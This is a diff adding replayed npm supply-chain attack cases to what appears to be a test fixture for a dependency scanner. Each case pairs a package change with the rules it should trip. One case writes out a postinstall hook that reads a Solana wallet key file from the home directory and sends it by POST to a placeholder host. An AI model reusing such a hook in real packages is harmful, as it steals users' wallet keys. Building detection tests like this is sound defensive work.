@@ -61,6 +61,51 @@ export const NPM: readonly Replay[] = [
     twin: npmProject({ mbt: { version: '1.2.48' } }),
   },
   {
+    name: 'intercom-client 7.0.4, April 2026: a patch release of a client runs setup.mjs',
+    base: npmProject({ 'intercom-client': { version: '7.0.2' } }),
+    attack: npmProject({ 'intercom-client': { version: '7.0.4', hasInstallScript: true } }),
+    because: ['HIGH PACKAGE-INSTALL-SCRIPT'],
+    twin: npmProject({ 'intercom-client': { version: '7.0.4' } }),
+  },
+  {
+    name: '@cap-js, April 2026: below a package that asks for it, one that now runs a script',
+    base: npmProject({
+      '@sap/cds-dk': { version: '9.0.0', dependencies: { '@cap-js/sqlite': '^2.2.0' } },
+      '@cap-js/sqlite': { version: '2.2.1', dependencies: { '@cap-js/db-service': '^2.10.0' } },
+      '@cap-js/db-service': { version: '2.10.0' },
+    }),
+    attack: npmProject({
+      '@sap/cds-dk': { version: '9.0.0', dependencies: { '@cap-js/sqlite': '^2.2.0' } },
+      '@cap-js/sqlite': {
+        version: '2.2.2',
+        dependencies: { '@cap-js/db-service': '^2.10.0' },
+        hasInstallScript: true,
+      },
+      '@cap-js/db-service': { version: '2.10.1', hasInstallScript: true },
+    }),
+    because: ['HIGH PACKAGE-INSTALL-SCRIPT'],
+    twin: npmProject({
+      '@sap/cds-dk': { version: '9.0.0', dependencies: { '@cap-js/sqlite': '^2.2.0' } },
+      '@cap-js/sqlite': { version: '2.2.2', dependencies: { '@cap-js/db-service': '^2.10.0' } },
+      '@cap-js/db-service': { version: '2.10.1' },
+    }),
+  },
+  {
+    name: '@injectivelabs/sdk-ts, 2026: a client that sends the words of a wallet',
+    base: { 'src/wallet.ts': 'export const sign = (words: string): string => words;\n' },
+    attack: {
+      'package.json': manifest({ postinstall: 'node lib/report.js' }),
+      'lib/report.js': [
+        "const fs = require('fs'), os = require('os'), path = require('path');",
+        "const keys = fs.readFileSync(path.join(os.homedir(), '.config', 'solana', 'id.json'));",
+        "fetch('https://keys.example.invalid/x', { method: 'POST', body: keys });",
+        '',
+      ].join('\n'),
+    },
+    because: ['MEDIUM HOOK-INSTALL-SCRIPT', 'HIGH CODE-CREDENTIAL-SENT'],
+    twin: { 'package.json': manifest({ postinstall: 'husky' }) },
+  },
+  {
     name: 'TanStack, May 2026: an optional dependency from a commit that no branch has',
     base: npmProject({ '@tanstack/react-router': { version: '1.169.4' } }),
     attack: npmProject({
